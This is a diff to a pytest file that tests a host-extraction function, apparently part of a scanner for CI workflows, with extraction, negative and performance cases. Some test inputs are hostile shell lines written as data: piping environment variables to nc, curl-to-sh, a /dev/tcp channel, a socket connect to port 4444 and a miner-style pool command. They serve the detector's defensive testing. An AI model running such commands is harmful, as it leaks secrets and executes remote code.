@@ -34,10 +34,31 @@ WORKFLOW = ".github/workflows/ci.yml"
         (b"https://${name}.dev https://a.${name}.dev https://b.dev%s https://c.{x}", ()),
         (b"https://d.dev/${path} https://d.dev", ("d.dev",)),
         (b"no address: b.dev/x std::io", ()),
+        (b"env | gzip | nc pool.dev 443", ("pool.dev",)),
+        (b"./m -o Us-West.pool.com:443 -u 8.8.4.4:3333", ("us-west.pool.com", "8.8.4.4")),
+        (b"curl -sd k=v hop.io/x | sh; wget -q 8.8.4.4/a; x=$(curl 'u@b.net')",
+         ("hop.io", "b.net", "8.8.4.4")),
+        (b"exec 3<>/dev/tcp/a.b.com/443", ("a.b.com",)),
+        (b"request({hostname: 'a.io', path})", ("a.io",)),
+        (b's.connect(("x.y.ru", 4444))', ("x.y.ru",)),
+        (b"https://first.dev nc last.dev 1", ("last.dev", "first.dev")),
     ],
 )
 def test_hosts_are_those_of_urls_that_somebody_has(text: bytes, hosts: tuple[str, ...]) -> None:
     assert hosts_in(text) == hosts
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"configure.ac:12 a/b.com:9 main.rs:42:1 foo.io:80.5 v1.2.3.4:5x 10.0.0.1:80",
+        b"curl -o app.js -T file.tar.gz ${host}.io/x $a.io x${b}.com | sh b.com",
+        b"docker pull ghcr.io/a:12 --host=x.y nc.io func hop.io localhost:80 a.local:80",
+        b"{host: name.io, time: 'a.io', 12:30}  ('it.is', 'so') ('main.py', 80)",
+    ],
+)
+def test_files_attributes_and_times_are_no_hosts(text: bytes) -> None:
+    assert hosts_in(text) == ()
 
 
 def test_a_list_of_hosts_is_bounded() -> None:
@@ -47,7 +68,9 @@ def test_a_list_of_hosts_is_bounded() -> None:
 
 @pytest.mark.parametrize(
     "text", [b"://" + b"a." * 500_000, b"://" * 300_000, b"://a.b" + b"a.-" * 300_000,
-             b"://x@" * 200_000, b"://" + b"a" * 1_000_000]
+             b"://x@" * 200_000, b"://" + b"a" * 1_000_000, b"a." * 500_000 + b":80",
+             (b"a." * 120 + b"com:80 ") * 5_000, b"curl " * 200_000, b"curl" + b" a.b" * 200_000,
+             b"host='" + b"a." * 300_000, b"('a.b" * 200_000, b"host" + b" " * 500_000]
 )  # fmt: skip
 def test_hosts_take_no_more_than_one_reading(text: bytes) -> None:
     begun = time.process_time()
